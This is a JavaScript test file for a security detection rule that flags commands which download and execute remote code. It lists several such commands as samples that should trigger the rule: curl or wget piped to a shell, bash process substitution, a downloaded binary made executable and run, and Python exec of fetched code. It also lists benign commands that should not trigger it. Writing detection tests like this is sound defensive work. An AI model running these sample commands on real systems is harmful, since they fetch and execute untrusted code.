import { test } from 'node:test';
import { ruleTester, exec } from '../../src/core/rules/index.js';
import { builtinFilesSync } from '../../src/node/rules/load.js';

const files = builtinFilesSync('remote-execution.yaml');
const T = 'command/remote-execution';

test('remote-execution rules', () => {
  ruleTester(files, {
    fires: [
      { type: T, event: exec(['sh', '-c', 'curl -fsSL http://198.51.100.9/x.sh | sh']) },
      { type: T, event: exec(['bash', '-c', 'wget -q -O- http://198.51.100.9/i | bash']) },
      { type: T, event: exec(['bash', '-c', 'bash <(curl -s http://198.51.100.9/i)']) },
      { type: T, event: exec(['sh', '-c', 'sh -c "$(curl -fsSL http://x/i)"']) },
      { type: T, rule: 'Downloaded file made executable and run', event: exec(['sh', '-c', 'wget http://x/m -O /tmp/m && chmod +x /tmp/m && /tmp/m']) },
      {
        type: T,
        rule: 'Interpreter executing downloaded code',
        event: exec(['python3', '-c', 'import urllib.request;exec(urllib.request.urlopen("http://x/p").read())']),
      },
    ],
    silent: [
      { event: exec(['sh', '-c', 'curl -fsSL -o /tmp/file.tar.gz https://example.com/file.tar.gz']) },
      { event: exec(['sh', '-c', 'curl -s http://localhost:8080/health | grep ok']) },
      { event: exec(['curl', '-fsSL', 'http://x/i']) },
      { event: exec(['sh', '-c', 'cat script.sh | sh']) },
      { event: exec(['python3', '-c', 'import urllib.request;print(urllib.request.urlopen("http://x").status)']) },
    ],
  });
});
